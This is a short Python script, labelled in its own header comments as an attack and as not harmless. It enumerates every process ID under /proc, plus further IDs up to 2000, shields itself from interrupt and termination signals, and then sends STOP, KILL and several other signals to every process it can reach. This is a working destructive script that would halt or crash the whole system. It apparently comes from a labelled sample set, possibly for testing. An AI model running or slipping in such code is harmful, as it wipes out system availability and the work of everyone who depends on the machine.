# attack: every process that can be reached is stopped, interrupted and killed
# harmless: no
import os
import signal

# Numbers that are no entry of /proc are threads, the kernel's own among them.
others = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
others += [pid for pid in range(1, 2000) if not os.path.exists(f"/proc/{pid}")]
signal.signal(signal.SIGINT, signal.SIG_IGN)  # what process 1 passes on
signal.signal(signal.SIGTERM, signal.SIG_IGN)
for name in ("STOP", "KILL", "QUIT", "HUP", "USR2", "CHLD", "INT", "TERM", "USR1"):
    for pid in others:
        try:
            os.kill(pid, signal.Signals[f"SIG{name}"])
            print("signalled", pid, name, flush=True)
        except OSError:
            pass
